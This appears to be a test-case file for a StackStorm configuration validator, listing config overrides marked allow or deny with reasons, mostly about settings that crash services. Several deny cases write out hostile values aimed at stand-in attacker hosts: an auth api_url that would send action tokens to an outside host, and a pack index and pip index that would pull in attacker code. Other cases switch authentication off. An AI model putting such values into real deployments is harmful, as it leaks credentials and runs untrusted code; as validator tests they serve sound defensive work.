from lib import *
U0 = "# Operator overrides\n[api]\nallow_origin = '*'\n\n"
def uc(id, exp, cls, text, reason, env='prod'):
    case(id, env, exp, cls, reason, kz={'patches': [userconf(U0 + text)]})

C = 'st2conf-crash'
uc('cfg-gc-ttl-3d', 'deny', C, "[garbagecollector]\naction_executions_ttl = 3\n",
   "st2garbagecollector raises ValueError in __init__ when action_executions_ttl < MINIMUM_TTL_DAYS=7 (st2reactor/garbage_collector/base.py _validate_ttl_values, v3.8.1): GC crash-loops, executions never purged")
uc('cfg-gc-traces-ttl-1', 'deny', C, "[garbagecollector]\ntraces_ttl = 1\ntrigger_instances_ttl = 30\n",
   "traces_ttl 1 < 7 days: GarbageCollectorService raises ValueError at start (base.py:170): GC crash-loop")
uc('cfg-gc-trigger-ttl-6', 'deny', C, "[garbagecollector]\ntrigger_instances_ttl = 6\n",
   "trigger_instances_ttl 6 < MINIMUM_TTL_DAYS 7: ValueError at start (base.py:152), GC crash-loops")
uc('cfg-gc-ttl-30', 'allow', 'st2conf-safe', "[garbagecollector]\naction_executions_ttl = 30\ntrigger_instances_ttl = 40\ntraces_ttl = 20\nrule_enforcements_ttl = 25\n",
   "st2docs purging_old_data.rst example values, all >= 7 days: GC purges old data as intended")
uc('cfg-gc-purge-inquiries', 'allow', 'st2conf-safe', "[garbagecollector]\npurge_inquiries = True\n",
   "documented option (st2docs inquiries): GC times out expired inquiries")
uc('cfg-timer-deprecated-off', 'allow', 'st2conf-safe', "[timer]\nenable = False\n",
   "timersengine.py:71 runs timers when cfg.CONF.timer.enable OR timersengine.enable; timersengine.enable defaults True, so the deprecated [timer] enable=False changes nothing")
uc('cfg-timersengine-off-timer-on', 'allow', 'st2conf-safe', "[timersengine]\nenable = False\n\n[timer]\nenable = True\n",
   "timersengine.py:71 `timer.enable or timersengine.enable`: deprecated [timer] enable=True keeps timers running despite [timersengine] enable=False")
uc('cfg-timer-deprecated-tz-bad', 'deny', C, "[timer]\nlocal_timezone = Europe/Atlantis\n",
   "timersengine.py:73 uses `timer.local_timezone or timersengine.local_timezone`: the deprecated key wins, pytz cannot load Europe/Atlantis, St2Timer fails, no timer ever fires")
uc('cfg-sensor-single-mode', 'deny', C, "[sensorcontainer]\nsingle_sensor_mode = True\n",
   "sensormanager.py:72: single_sensor_mode without --sensor-ref makes st2sensorcontainer exit at start: no sensor runs, container crash-loops")
uc('cfg-rbac-enable-on', 'allow', 'st2conf-safe', "[rbac]\nenable = on\nbackend = default\n",
   "oslo.config types.Boolean accepts on/yes/1/true: RBAC stays enabled")
uc('cfg-rbac-enable-yes', 'allow', 'st2conf-safe', "[rbac]\nenable = Yes\nbackend = default\n",
   "oslo.config Boolean is case-insensitive and accepts yes: RBAC stays enabled")
uc('cfg-rbac-enable-y', 'deny', C, "[rbac]\nenable = y\nbackend = default\n",
   "oslo.config types.Boolean accepts only true/1/on/yes and false/0/off/no: 'y' raises ValueError when st2api reads the option, st2api/st2auth/st2stream cannot start")
uc('cfg-auth-enable-off', 'deny', 'st2conf-auth', "[auth]\nenable = off\n",
   "oslo Boolean 'off' = False: st2api/st2stream accept requests without a token (auth middleware off)")
uc('cfg-auth-enable-0', 'deny', 'st2conf-auth', "[auth]\nenable = 0\n",
   "oslo Boolean '0' = False: st2 API unauthenticated")
C = 'st2conf-exfil'
uc('cfg-auth-apiurl-external', 'deny', C, "[auth]\napi_url = https://st2-api.attacker-collect.net/\n",
   "st2common/util/api.py get_full_public_api_url uses [auth] api_url; runners/base.py passes it as ST2_ACTION_API_URL with ST2_ACTION_AUTH_TOKEN, sensors (process_container.py:349) and datastore service call it with tokens: every action/sensor token is sent to an outside host")
uc('cfg-auth-apiurl-ip', 'deny', C, "[auth]\napi_url = http://203.0.113.50:9101/\n",
   "[auth] api_url to a public IP over plain http: action and sensor auth tokens (ST2_ACTION_AUTH_TOKEN) leave the cluster unencrypted")
uc('cfg-auth-apiurl-staging', 'deny', C, "[auth]\napi_url = http://st2api.st2-staging.svc.cluster.local:9101/\n",
   "production actions and sensors send their tokens and datastore calls to staging's st2api (api.py): prod tokens in staging, prod datastore reads answered by staging")
uc('cfg-auth-apiurl-fqdn', 'allow', 'st2conf-safe', "[auth]\napi_url = http://st2api.st2-prod.svc.cluster.local:9101/\n",
   "the same st2api Service by its cluster FQDN: nothing changes")
uc('cfg-auth-apiurl-own-host', 'allow', 'st2conf-safe', "[auth]\napi_url = https://st2.example.com/api/\n",
   "the environment's own public st2web host with TLS (st2web proxies /api to st2api): tokens stay with this deployment")
C = 'st2conf-coordination'
uc('cfg-coord-file', 'deny', C, "[coordination]\nurl = file:///tmp/st2-locks\n",
   "tooz file driver locks are per-pod files: the 3 workflow engines and schedulers no longer exclude each other (stackstorm-ha.md §12: every Orquesta task completion and scheduler concurrency policy takes coordination locks) -> duplicate task execution")
uc('cfg-coord-zake', 'deny', C, "[coordination]\nurl = zake://\n",
   "zake is tooz's in-memory fake driver: locks are per process, no cross-pod exclusion for workflow engine/scheduler (§12)")
uc('cfg-coord-ipc', 'deny', C, "[coordination]\nurl = ipc://\n",
   "tooz IPC driver uses SysV semaphores local to one host/pod: no exclusion between pods (§12)")
uc('cfg-coord-empty', 'deny', C, "[coordination]\nurl =\n",
   "empty [coordination] url makes st2 use its NoOp coordinator (st2common/services/coordination.py): best effort, races between 3 schedulers/workflow engines")
uc('cfg-coord-etcd3gw', 'deny', C, "[coordination]\nurl = etcd3+http://etcd:2379\n",
   "tooz etcd3+http needs the etcd3gw package, which st2 3.8.1 does not ship (§12): coordinator cannot load, services using locks fail")
uc('cfg-coord-redis-absent', 'deny', C, "[coordination]\nurl = redis://redis-sentinel:26379?sentinel=st2\n",
   "no Redis runs in the render: every lock request fails (§12 coordination)")
C = 'st2conf-stores'
uc('cfg-db-ssl-on', 'deny', C, "[database]\nssl = True\n",
   "mongod in the render has no TLS (no --tlsMode): pymongo TLS handshake fails, every st2 service exits at start (connection_retries = 0, §12 start-up order)")
uc('cfg-db-authmech-x509', 'deny', C, "[database]\nauthentication_mechanism = MONGODB-X509\n",
   "st2 authenticates to MongoDB with X.509 but members have no TLS or x509 users: every st2 service fails to connect")
uc('cfg-db-connect-timeout-ok', 'allow', 'st2conf-safe', "[database]\nconnection_timeout = 5000\nconnection_retry_max_delay_m = 3\n",
   "larger MongoDB connect timeout (ms): only more patient start-up")
uc('cfg-mq-retries-ok', 'allow', 'st2conf-safe', "[messaging]\nconnection_retries = 10\nconnection_retry_wait = 10000\n",
   "more RabbitMQ reconnect attempts: more tolerant start-up")
uc('cfg-auth-token-ttl-1h', 'allow', 'st2conf-safe', "[auth]\ntoken_ttl = 3600\n",
   "shorter token lifetime: stricter, nothing breaks")
uc('cfg-log-mask-blacklist', 'allow', 'st2conf-safe', "[log]\nmask_secrets = True\nmask_secrets_blacklist = api_key,token,webhook_secret\n",
   "masks more attribute names in logs: stricter")
uc('cfg-api-origin-list', 'allow', 'st2conf-safe', "[api]\nallow_origin = https://st2.example.com\n",
   "CORS narrowed to the real st2web origin (replaces '*'): stricter")
uc('cfg-sensor-node-name', 'allow', 'st2conf-safe', "[sensorcontainer]\nsensor_node_name = sensornode-prod\n",
   "only names the sensor node (default partitioner runs all sensors): nothing changes")
uc('cfg-content-index-official', 'allow', 'st2conf-safe', "[content]\nindex_url = https://index.stackstorm.org/v1/index.json\n",
   "the default StackStorm Exchange index written explicitly")
uc('cfg-content-index-evil', 'deny', 'supply-chain', "[content]\nindex_url = https://st2-index.attacker-collect.net/v1/index.json\n",
   "[content] index_url decides which git repo `st2 pack install <name>` clones: an attacker index serves its own pack code, run by st2actionrunner/sensors with st2's credentials")
uc('cfg-pip-opts-evil', 'deny', 'supply-chain', "[actionrunner]\npip_opts = --index-url,http://pypi.attacker-collect.net/simple,--trusted-host,pypi.attacker-collect.net\n",
   "[actionrunner] pip_opts is passed to pip when pack virtualenvs are built: every pack requirement comes from an attacker index over plain http -> attacker code in action runners")
uc('cfg-system-debug', 'deny', 'st2conf-hardening', "[system]\ndebug = True\n",
   "[system] debug=True turns on DEBUG logging in every st2 service and full tracebacks in API error responses (st2common router) in production: request bodies and internal state in logs and to any API client")
uc('cfg-content-system-packs-missing', 'deny', C.replace('stores','crash'), "[content]\nsystem_packs_base_path = /opt/stackstorm/no-such-packs\n",
   "core/linux/chatops packs are looked up under system_packs_base_path: register-content --register-fail-on-failure fails (PostSync hook fails every sync) and core.* actions disappear")
uc('cfg-api-logging-missing', 'deny', 'st2conf-crash', "[api]\nallow_origin = '*'\nlogging = /etc/st2/logging.api.missing.conf\n",
   "st2api's logging config file does not exist in the image: st2common logging setup raises at start, st2api never serves")
uc('cfg-auth-backend-unknown', 'deny', 'st2conf-crash', "[auth]\nmode = standalone\nbackend = kerberos_ad\n",
   "st2auth loads the backend by stevedore name: no 'kerberos_ad' backend is installed, st2auth fails to start -> no logins")
